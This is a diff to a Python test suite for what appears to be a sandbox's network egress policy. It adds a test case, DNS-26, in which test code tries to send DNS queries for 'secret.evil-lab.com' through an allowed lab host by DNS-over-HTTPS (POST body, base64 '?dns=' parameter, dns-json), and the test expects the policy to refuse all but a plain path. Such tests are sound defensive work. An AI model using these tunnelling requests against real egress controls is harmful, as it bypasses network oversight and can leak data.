@@ -25,6 +25,9 @@ HEX = "4a6f" * 15
 RESOLVERS = """  - id: resolvers
     hosts: [dns.google, "*.cloudflare-dns.com"]
     requests: ["ANY /**"]
+  - id: wide
+    hosts: [wide.wild-lab.com]
+    requests: ["GET,POST /**"]
 deny:
 """
 MORE = "limits: {dns_timeout: 1.2}\n"
@@ -59,6 +62,16 @@ def nobody_else_asked(outcome: Outcome) -> None:
 
 def nothing_poisoned(outcome: Outcome) -> None:
     assert {request.address for request in outcome.lab.requests(host="pypi.org")} == {topology.PYPI}
+
+
+def a_hundred_not_asked(outcome: Outcome) -> None:
+    """Each question has its record, and none left."""
+    assert [record["layer"] for record in outcome.records].count("dns") == 100
+    never_asked(outcome)
+
+
+def one_request(outcome: Outcome) -> None:
+    assert [request.target for request in outcome.lab.requests(host="wide.wild-lab.com")] == ["/n?dns=true"]
 
 
 def by_tcp(outcome: Outcome) -> None:
@@ -519,6 +532,25 @@ _ROWS = [
         records=(("dns", "deny", "denied_by_organisation"), ("request", "deny", "denied_by_organisation")),
     ),
     Row(
+        "DNS-26",
+        "asked = question('secret.evil-lab.com', ident=0)\n"
+        "import base64; text = base64.urlsafe_b64encode(asked).rstrip(b'=').decode()\n"
+        "kind = b'Content-Type: application/dns-message\\r\\nContent-Length: %d\\r\\n' % len(asked)\n"
+        "it = 'wide.wild-lab.com'\n"
+        "say(line(tls(it, 443, get('/echo', it, 'POST', kind, asked), it)))\n"
+        "say(line(tls(it, 443, get('/n?dns=' + text, it), it)))\n"
+        "say(line(tls(it, 443, get('/n?name=secret.evil-lab.com', it, head=b'Accept: application/dns-json\\r\\n'), it)))\n"
+        "say(line(tls(it, 443, get('/n?dns=true', it), it)))",
+        title="a resolver on an allowed host",
+        wins=each("200 OK", 4),
+        sees=rf"\A(?:[^\n]*{refused('doh')}[^\n]*\n){{3}}[^\n]*200 OK",
+        records=(("request", "deny", "doh"), ("request", "allow", "rule")),
+        rule="wide",
+        reaches=("wide.wild-lab.com",),
+        also=one_request,
+        note="unless a rule spells the path: tests/policy/test_decide.py",
+    ),
+    Row(
         "DNS-28",
         "def one(it):\n"
         "    began = time.monotonic()\n"
@@ -647,8 +679,7 @@ TIGHT = [
         wins=r"\A100 ",
         sees=r"\A[1-3]\d \{'NXDOMAIN'\}\n",
         records=(("dns", "allow", "rule"), ("dns", "deny", "dns_budget")),
-        decisions=100,
-        also=never_asked,
+        also=a_hundred_not_asked,
     ),
 ]
 
